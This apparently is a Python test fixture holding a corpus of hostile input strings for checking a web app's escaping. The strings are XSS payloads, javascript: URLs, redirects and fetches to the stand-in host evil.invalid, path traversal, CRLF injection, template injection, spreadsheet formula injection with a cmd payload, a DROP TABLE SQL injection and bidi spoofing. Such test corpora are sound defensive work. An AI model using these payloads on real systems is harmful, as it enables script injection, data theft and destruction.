"""Texts of strangers, each of which would do something if some page believed it.

What would run calls `pwned()`, what would become an element is a `pwned-tag`, what would be asked for lies at `EVIL`.
"""

EVIL = "evil.invalid"

MARKUP = (
    "<script>pwned('script')</script>",
    "</title></textarea></script><script>pwned('closing')</script>",
    "<img src=x onerror=\"pwned('img')\">",
    "<svg/onload=pwned('svg')><pwned-tag>",
    "\"><pwned-tag onfocus=pwned('quote') autofocus tabindex=0>",
    "' onmouseover='pwned()' pwned='",
    "` onclick=`pwned()`",
    f"<base href=//{EVIL}/><meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<form action=//{EVIL}/><input name=q></form><iframe srcdoc='<script>parent.pwned()</script>'>",
    "--><pwned-tag><!--",
    "]]><pwned-tag><![CDATA[",
    f"<pwned-tag hx-get='//{EVIL}/' hx-trigger=load hx-swap-oob=true id=session-list>",
    f"<hx-partial hx-target='body'><pwned-tag></hx-partial><link rel=stylesheet href=//{EVIL}/x.css>",
    "&lt;script&gt;pwned()&lt;/script&gt; &quot;&#x27;&amp;",
    "<style>*{display:none}</style>",
)
ADDRESSES = (
    "javascript:pwned('url')",
    " JaVaScRiPt:pwned()//",
    "data:text/html,<script>pwned()</script>",
    f"https://{EVIL}/<pwned-tag>",
    f"//{EVIL}/a",
    "../../etc/passwd",
    "a%2Fb%00%0d%0aSet-Cookie:%20pwned=1",
    "a/b?c#d&e=f;g",
)
TEMPLATES = ("{{ 7|add:'7' }}{% debug %}", "${pwned()} #{7*7} <%= pwned() %> {{constructor.constructor('pwned()')()}}")
UNICODE = (
    "\u202egnp.exe\u202c \u2066right\u2069 \u200f\u200e",
    "z\u0335\u0321\u0356a\u0338\u0322l\u0336g\u0337o " * 3,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea",
    "\u00e9\u0301 \ufeff\u200b\u2028\u2029 \u0130\u0131\u017f\u212a \ufdfd",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
)
SHEETS = (
    f'=HYPERLINK("//{EVIL}/","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    'a\r\nb,"c"\n=1',
    "\uff1d1+1",
)
LANGUAGES = (
    'team="growth" -status:x,y "un\\"closed',
    "a.b.c=* >5 <3",
    "' OR 1=1; DROP TABLE sessions_app_session; --",
    '{"a": {"b": [1, null, "\\u0000"]}}',
    "\\u0000 \\x00 \\",
    "%s %d %(x)s {0} {x!r}",
    "null",
    "__proto__",
    "constructor",
)
LONG = ("w" * 230, "long words and more of them " * 8)

CORPUS = (*MARKUP, *ADDRESSES, *TEMPLATES, *UNICODE, *SHEETS, *LANGUAGES, *LONG)
